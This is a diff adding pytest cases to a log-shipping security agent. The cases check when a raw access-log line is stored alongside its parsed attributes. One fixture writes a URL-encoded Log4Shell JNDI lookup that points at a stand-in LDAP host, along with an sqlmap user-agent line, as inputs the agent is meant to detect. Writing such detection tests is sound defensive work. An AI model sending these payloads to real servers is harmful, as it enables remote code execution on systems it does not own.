@@ -69,6 +69,7 @@ def test_events_and_alerts_arrive_as_rows_of_their_tables(agent, google):
     one = next(r for r in google.rows("sekisho-events") if r["url_path"] == "/ok0")
     assert one["service_name"] == "test" and isinstance(one["http_response_status_code"], int)
     assert isinstance(one["attributes"], dict)
+    assert "body" not in one  # it is in the attributes
     audit = agent.run("audit")
     assert audit.returncode == 0, audit.stdout
     agent.stop()
@@ -246,3 +247,16 @@ def test_check_online_walks_every_hop_and_says_what_to_grant(agent, google):
     google.always["/token"] = (400, "invalid_grant")
     check = agent.run("check", "--online")
     assert check.returncode == 69 and "FAIL: credentials: " in check.stdout, check.stdout
+
+
+@pytest.mark.parametrize("keep, kept", [("always", 4), ("unparsed", 1), ("detected", 3)])
+def test_a_line_is_kept_besides_its_attributes_where_it_is_asked_for(agent, google, keep, kept):
+    use(agent, google, more=f", keep_body: {keep}")
+    with open(agent.logs / "a.log", "a") as f:
+        f.write(access_line(1, "/ok") + "no access line at all\n")
+        f.write(access_line(1, "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D") + access_line(1, "/", agent="sqlmap/1.7"))
+    agent.start()
+    wait_for(lambda: len(distinct(google.rows("sekisho-events"))) == 4, "all events")
+    rows = {r["id"]: r for r in google.rows("sekisho-events")}.values()
+    assert sum("body" in r for r in rows) == kept
+    agent.stop()
